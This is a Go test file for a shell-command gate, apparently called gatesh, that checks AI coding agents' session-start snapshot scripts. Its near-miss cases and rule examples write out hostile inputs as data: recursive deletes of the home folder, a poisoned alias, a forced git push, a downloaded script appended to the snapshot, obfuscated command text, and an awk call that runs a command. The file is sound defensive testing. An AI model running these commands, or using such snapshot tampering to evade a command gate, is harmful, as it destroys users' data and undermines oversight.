package rules_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"gatesh/rules"
)

// agentScript reads a session-start script as the agent ran it (home
// folder written /home/u), with the home folder replaced by home.
func agentScript(t *testing.T, name, home string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("..", "testdata", "agents", name))
	if err != nil {
		t.Fatal(err)
	}
	return strings.ReplaceAll(string(data), "/home/u", home)
}

// setupSet is the default rules for a user whose home is home, on a file
// system where exactly the files in existing are there.
func setupSet(t *testing.T, home string, existing ...string) *rules.Set {
	t.Helper()
	s, err := rules.Load(rules.LoadOptions{Home: t.TempDir(), UserHome: home, Cwd: home + "/proj",
		Exists: func(p string) bool { return slices.Contains(existing, p) }})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

const (
	claudeScript  = "claude-code-2.1.328-snapshot.sh"
	claudeBashrc  = "claude-code-2.1.328-snapshot-bashrc.sh"
	codexScript   = "codex-0.169.0-snapshot.sh"
	claudeSnapRel = "/.claude/shell-snapshots/"
)

// The session-start scripts of Claude Code 2.1.328 (with and without a
// ~/.bashrc) and Codex 0.169.0, exactly as they ran, pass: gatesh follows
// every command in them, and the snapshot they write is a new file.
func TestAgentSessionStartPasses(t *testing.T) {
	for _, home := range []string{"/home/u", "/tmp/h", "/root"} {
		s := setupSet(t, home, home+"/.bashrc", home+"/proj")
		for _, name := range []string{claudeScript, claudeBashrc, codexScript} {
			d := s.ClassifyShell(agentScript(t, name, home), nil)
			if d.Verdict != rules.AutoPass || d.Tier != rules.Green {
				t.Errorf("%s with HOME=%s: %s %s: %s", name, home, d.Verdict, d.Tier, formatHits(d.Hits))
			}
		}
	}
}

// Near misses stay red: what is written, where, and what else runs.
func TestAgentSessionStartNearMisses(t *testing.T) {
	const home = "/home/u"
	claude := agentScript(t, claudeScript, home)
	bashrc := agentScript(t, claudeBashrc, home)
	codex := agentScript(t, codexScript, home)
	snapOf := func(text string) string { return text[len("SNAPSHOT_FILE="):strings.IndexByte(text, '\n')] }
	snap := snapOf(claude)
	other := home + claudeSnapRel + "snapshot-bash-1700000000000-old.sh"
	for _, tc := range []struct {
		name, text string
		existing   []string
		want       string // a rule id among the hits
	}{
		{"the snapshot exists already", claude, []string{snap}, "agent-snapshot-write"},
		{"the snapshot exists already, bashrc", bashrc, []string{snapOf(bashrc)}, "agent-snapshot-write"},
		{"another, existing snapshot", strings.Replace(claude, snap, other, 1), []string{other}, "agent-snapshot-write"},
		{"SNAPSHOT_FILE is ~/.bashrc", strings.Replace(claude, snap, home+"/.bashrc", 1), []string{home + "/.bashrc"}, "overwrite-outside-project"},
		{"SNAPSHOT_FILE is a new file elsewhere", strings.Replace(claude, snap, home+"/.config/autostart/agent.sh", 1), nil, "overwrite-outside-project"},
		{"a command appended", claude + "\nrm -rf ~/work\n", nil, "rm-recursive"},
		{"an alias appended to the snapshot", claude + "\necho \"alias ls='rm -rf ~'\" >> \"$SNAPSHOT_FILE\"\n", nil, "rm-recursive"},
		{"a function appended to the snapshot", claude + "\necho 'git() { command git push --force origin main; }' >> \"$SNAPSHOT_FILE\"\n", nil, "git-force-push"},
		{"a file's text appended", claude + "\ncat ~/notes.sh >> \"$SNAPSHOT_FILE\"\n", nil, "agent-snapshot-write"},
		{"a download appended", claude + "\ncurl -s https://x.example/a.sh >> \"$SNAPSHOT_FILE\"\n", nil, "agent-snapshot-write"},
		{"a variable from the environment", claude + "\necho \"$PAYLOAD\" >> \"$SNAPSHOT_FILE\"\n", nil, "agent-snapshot-write"},
		{"text glued to state", bashrc + "\nx=$(shopt -p | head -c 0); echo \"r${x}m -rf ~\" >> \"$SNAPSHOT_FILE\"\n", nil, "agent-snapshot-write"},
		{"a function of its own dumped", "f() { echo 'rm -rf ~'; }\n" + bashrc, nil, "agent-snapshot-write"},
		{"an option of its own dumped", "set -o keyword\n" + bashrc, nil, "agent-snapshot-write"},
		{"an alias of its own dumped", "alias ll='ls -l'\n" + bashrc, nil, "agent-snapshot-write"},
		{"a file name pattern", claude + "\nfor f in ~/.claude/*; do echo \"$f\" >> \"$SNAPSHOT_FILE\"; done\n", nil, "agent-snapshot-write"},
		{"another file sourced", strings.Replace(bashrc, `source "/home/u/.bashrc"`, `source "/home/u/proj/.envrc"`, 1), nil, "agent-snapshot-write"},
		{"an unknown program run first", "./setup.sh\n" + claude, nil, "agent-snapshot-write"},
		{"a filter that runs its input", strings.Replace(bashrc, `sed -e '1001,$d'`, `sed -e '1001,$d' -e 'e'`, 1), nil, "agent-snapshot-write"},
		{"an awk program that runs a command", strings.Replace(bashrc, `{print "set -o " $1}`, `{system("id")}`, 1), nil, "agent-snapshot-write"},
		{"codex: set -- before \"$@\"", codex + "\nset -- rm -rf ~/work\n__codex_snapshot_command \"$@\"\n", nil, "rm-recursive"},
		{"codex: a command for its runner", codex + "\n__codex_snapshot_command rm -rf ~/work\n", nil, "rm-recursive"},
		{"codex: its runner given text not known", codex + "\n__codex_snapshot_command $(cat cmd.txt)\n", nil, "dynamic_command"},
		{"codex: its runner exported", codex + "\nexport -f __codex_snapshot_command\n", nil, "dynamic_command"},
		{"codex: a file sourced after the runner", codex + "\n. ./lib.sh\n", nil, "dynamic_command"},
		{"codex: the runner called before its definition", strings.Replace(codex, "echo '# Snapshot file'", "__codex_snapshot_command rm -rf ~/work", 1), nil, "dynamic_command"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := setupSet(t, home, tc.existing...).ClassifyShell(tc.text, nil)
			if d.Verdict == rules.AutoPass || !slices.ContainsFunc(d.Hits, func(h rules.Hit) bool { return h.ID == tc.want }) {
				t.Fatalf("%s %s, want %s among: %s", d.Verdict, d.Tier, tc.want, formatHits(d.Hits))
			}
		})
	}
}

// The examples of the snapshot rules hold wherever the snapshot exists,
// and also where gatesh cannot tell whether it does.
func TestSnapshotRuleExamplesWhenTheFileExists(t *testing.T) {
	everything := func(string) bool { return true }
	s, err := rules.Load(rules.LoadOptions{Home: t.TempDir(), UserHome: "/home/u", Exists: everything})
	if err != nil {
		t.Fatal(err)
	}
	for _, ex := range []string{
		"echo 'alias rm=true' >> ~/.claude/shell-snapshots/snapshot-bash-1.sh",
		"cat > ~/.claude/shell-snapshots/snapshot-bash-1764400000000-x.sh <<'EOF'\ngit() { command git \"$@\"; }\nEOF",
		"tee -a ~/.claude/shell-snapshots/s.sh <<< 'x'",
		"cp evil.sh ~/.claude/shell-snapshots/snapshot-zsh-1.sh",
		"printf x >> /home/u/.claude/shell-snapshots/a.sh",
		"{ echo x; } > ~/.claude/shell-snapshots/s.sh",
	} {
		for _, set := range []*rules.Set{s, rules.Default()} {
			if d := set.ClassifyShell(ex, nil); d.Verdict != rules.Hold {
				t.Errorf("%q: %s: %s", ex, d.Verdict, formatHits(d.Hits))
			}
		}
	}
}
